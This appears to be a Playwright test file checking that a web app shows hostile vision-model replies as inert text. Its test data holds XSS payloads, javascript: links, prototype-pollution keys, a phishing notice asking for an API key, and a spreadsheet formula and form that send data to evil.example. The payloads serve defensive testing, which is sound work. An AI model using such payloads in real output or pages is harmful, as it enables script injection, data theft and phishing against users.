// Issue 7, hostile model output: whatever a vision provider replies (HTML, <script>, javascript:
// links, markdown images, instructions aimed at the user, a hostile model name, prototype keys,
// spreadsheet formulas, 1 MB of text), the page shows it as plain text, bounded, never as markup;
// nothing runs, nothing loads, and the history and its CSV export stay inert too.
import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { APP, VISION_ORIGIN, expect, pickImage, test, useVision, visionScenario } from './support';

const SCORES = { anger: 0.02, disgust: 0.02, fear: 0.02, joy: 0.7, neutral: 0.2, sadness: 0.02, surprise: 0.02 };
const answer = (description: unknown, extra: Record<string, unknown> = {}) => JSON.stringify({ description, scores: SCORES, ...extra });
const MB = 1024 * 1024;

interface Case {
  name: string;
  content: string;
  model?: string;
  finishReason?: string;
  /** What the page must show: the top emotion, or an error matching this. */
  expect: { top: string } | { error: RegExp };
  /** Literal text the description must contain (proof it was shown as text, not parsed). */
  literal?: string;
}

const CASES: Case[] = [
  {
    name: 'script and event-handler HTML in the description',
    content: answer('<script>window.__pwned="script"</script><img src=x onerror="window.__pwned=\'img\'"><b>bold</b> smiling'),
    expect: { top: 'joy' },
    literal: '<script>window.__pwned="script"</script>',
  },
  {
    name: 'javascript: links, markdown and HTML',
    content: answer('[Verify your key](javascript:window.__pwned="md-link") <a href="javascript:window.__pwned=\'a\'">here</a>'),
    expect: { top: 'joy' },
    literal: '<a href="javascript:',
  },
  {
    name: 'a markdown image pointing at a tracker',
    content: answer(`![pixel](${VISION_ORIGIN.replace(/:\d+$/u, ':9')}/pixel.png) A smiling face.`),
    expect: { top: 'joy' },
    literal: '![pixel](',
  },
  {
    name: 'instructions aimed at the user',
    content: answer('SYSTEM NOTICE: your Moodlens session expired. Paste your API key at https://moodlens-login.example/verify to continue.'),
    expect: { top: 'joy' },
    literal: 'https://moodlens-login.example/verify',
  },
  {
    name: 'an HTML page around a fenced JSON answer',
    content:
      '<html><head><style>body{display:none}</style></head><body><h1 onclick="window.__pwned=\'h1\'">Result</h1>' +
      '<iframe src="javascript:window.__pwned=\'iframe\'"></iframe>\n```json\n' +
      answer('<svg onload="window.__pwned=\'svg\'"></svg> cheerful') +
      '\n```\n<form action="https://evil.example"><input name=key></form></body></html>',
    expect: { top: 'joy' },
    literal: '<svg onload=',
  },
  {
    name: 'a hostile model name, short',
    content: answer('smiling'),
    model: '<img src=x onerror="window.__pwned=\'model\'">',
    expect: { top: 'joy' },
  },
  {
    name: 'a hostile model name of 100 kB',
    content: answer('smiling'),
    model: `<b>${'A'.repeat(100_000)}</b>`,
    expect: { top: 'joy' },
  },
  {
    name: 'prototype keys among the scores',
    content: '{"description":"x","scores":{"__proto__":{"joy":1,"polluted":true},"constructor":{"prototype":{"polluted":true}},"joy":0.6,"sadness":0.4}}',
    expect: { top: 'joy' },
  },
  {
    name: 'a spreadsheet formula as the description',
    content: answer('=HYPERLINK("https://evil.example/?"&A1,"open")'),
    expect: { top: 'joy' },
    literal: '=HYPERLINK(',
  },
  {
    name: '1 MB of markup in the description',
    content: answer('<img src=x onerror="window.__pwned=\'big\'"> Smiling. '.repeat(Math.ceil(MB / 46))),
    expect: { top: 'joy' },
    literal: '<img src=x onerror=',
  },
  {
    name: '1 MB of prose without any JSON',
    content: 'I cannot score this picture. <script>window.__pwned="prose"</script> '.repeat(Math.ceil(MB / 66)),
    expect: { error: /could not be read as emotion scores/u },
  },
  {
    name: '1 MB reply cut off mid-JSON',
    content: `{"description":"${'<b>'.repeat(MB / 3)}`,
    finishReason: 'length',
    expect: { error: /stopped before finishing/u },
  },
];

/** Whatever the reply did, nothing of it may run, load, or become an element. */
async function assertInert(page: Page, scriptsBefore: number): Promise<void> {
  const state = await page.evaluate((app) => ({
    pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
    polluted: ({} as Record<string, unknown>).polluted ?? null,
    scripts: document.querySelectorAll('script').length,
    dangerous: Array.from(document.querySelectorAll('iframe, object, embed, form[action], svg [onload], [onerror], [onclick], a[href^="javascript:" i]')).map(
      (e) => e.outerHTML.slice(0, 80),
    ),
    images: Array.from(document.images)
      .map((img) => img.getAttribute('src') ?? '')
      .filter((src) => !(/^(blob:|data:|\/)/u.test(src) || src.startsWith(`${app}/`))),
    links: Array.from(document.querySelectorAll('a[href]')).map((a) => a.getAttribute('href') ?? ''),
  }), APP);
  expect(state.pwned).toBeNull();
  expect(state.polluted).toBeNull();
  expect(state.scripts).toBe(scriptsBefore);
  expect(state.dangerous).toEqual([]);
  expect(state.images).toEqual([]);
  expect(state.links.filter((href) => /evil|moodlens-login|javascript|:9\//iu.test(href))).toEqual([]);
}

test(`${CASES.length} hostile replies render as plain text, bounded, and run or load nothing`, async ({ page }) => {
  test.setTimeout(240_000);
  const loaded: string[] = [];
  page.on('request', (r) => loaded.push(r.url()));
  await visionScenario('ok');
  await page.goto('/');
  await useVision(page);
  await pickImage(page, 'smile.jpg');
  const scriptsBefore = await page.evaluate(() => document.querySelectorAll('script').length);
  const analyzeButton = page.getByRole('button', { name: 'Analyze', exact: true });

  for (const c of CASES) {
    await test.step(c.name, async () => {
      const set = await fetch(`${VISION_ORIGIN}/__vision/reply`, {
        method: 'POST',
        body: JSON.stringify({ content: c.content, model: c.model, finishReason: c.finishReason }),
      });
      expect(set.ok).toBe(true);
      // A new pick is a new input: the same picture analyzed again unchanged would reuse the last run.
      await pickImage(page, 'smile.jpg');
      await expect(analyzeButton).toBeEnabled();
      await analyzeButton.click();
      // The previous step's answer stays on screen until this run ends: wait for the end, or the
      // checks below could read the previous answer.
      await expect(analyzeButton).toHaveAttribute('aria-busy', 'false');
      if ('top' in c.expect) {
        await expect(page.getByTestId('vision-top')).toHaveText(c.expect.top);
        const description = (await page.getByTestId('vision-description').count()) > 0 ? await page.getByTestId('vision-description').textContent() : '';
        expect(description!.length).toBeLessThanOrEqual(600);
        if (c.literal) expect(description).toContain(c.literal);
        const model = (await page.getByTestId('vision-model').textContent()) ?? '';
        expect(model.length).toBeLessThanOrEqual(200);
        if (c.model && c.model.length <= 200) expect(model).toBe(c.model);
      } else {
        await expect(page.getByTestId('vision-error')).toContainText(c.expect.error);
        for (const summary of await page.getByTestId('vision-error').locator('summary').all()) await summary.click();
        expect(((await page.getByTestId('vision-error').textContent()) ?? '').length).toBeLessThan(1000);
      }
      await assertInert(page, scriptsBefore);
    });
  }

  // Every reply that was read went into the history; it shows them as text too.
  await page.getByRole('button', { name: 'History', exact: true }).click();
  const readable = CASES.filter((c) => 'top' in c.expect).length;
  await expect(page.getByTestId('history-item')).toHaveCount(readable);
  await expect(page.getByTestId('history-item').filter({ hasText: '<script>window.__pwned="script"</script>' })).toHaveCount(1);
  await assertInert(page, scriptsBefore);

  // The CSV export neutralises the formula (a leading apostrophe) and stays one row per record.
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download CSV', exact: true }).click();
  const csv = readFileSync(await (await download).path(), 'utf8');
  expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`);
  expect(csv.trimEnd().split('\r\n')).toHaveLength(readable + 1);

  expect(loaded.filter((u) => u.includes(':9/') || u.includes('evil') || u.includes('moodlens-login'))).toEqual([]);
});
